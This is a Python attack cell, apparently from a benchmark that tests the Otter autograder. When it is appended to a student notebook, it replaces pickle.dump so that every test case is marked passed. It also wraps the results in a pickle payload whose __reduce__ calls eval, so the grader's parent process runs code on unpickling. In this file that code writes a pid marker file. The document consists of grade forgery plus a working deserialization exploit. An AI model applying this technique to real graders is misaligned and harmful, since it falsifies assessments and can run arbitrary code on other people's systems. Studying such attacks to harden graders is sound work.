# ruff: noqa
# attack-base: template
# attack-place: end
"""Forge the results and run code in the grader's parent process, through pickle.

The student template plus this cell. Otter's export cell, appended after the student's cells
and run in the student's kernel, does `import pickle; pickle.dump(results, f)`; the grading
process then `pickle.load`s that file. This cell replaces `pickle.dump` (at class definition, so
it also runs wherever a grader imports the definitions): every test case is marked passed, and
the object written is a payload whose unpickling, in the parent, writes a marker file with the
parent's pid (to prove where it ran) before returning the forged results. The marker goes to
$BENCH_ATTACK_MARKER (set by the benchmark), else /tmp/nmt-bench-attack-marker.
"""


def _install_forging_dump():
    import os
    import pickle

    marker = os.environ.get("BENCH_ATTACK_MARKER", "/tmp/nmt-bench-attack-marker")
    real_dump = pickle.dump

    class Payload:
        def __init__(self, blob):
            self.blob = blob

        def __reduce__(self):
            code = (
                f"(__import__('pathlib').Path({marker!r}).write_text("
                f"'unpickled by pid ' + str(__import__('os').getpid()) + ', kernel pid {os.getpid()}'),"
                f" __import__('pickle').loads({self.blob!r}))[1]"
            )
            return (eval, (code,))

    def forging_dump(obj, file, *args, **kwargs):
        try:
            for test_file in obj.results.values():
                for result in test_file.test_case_results:
                    result.passed = True
            obj = Payload(pickle.dumps(obj))
        except AttributeError:
            pass
        return real_dump(obj, file, *args, **kwargs)

    pickle.dump = forging_dump
    return True


class _ForgeResults:
    installed = _install_forging_dump()
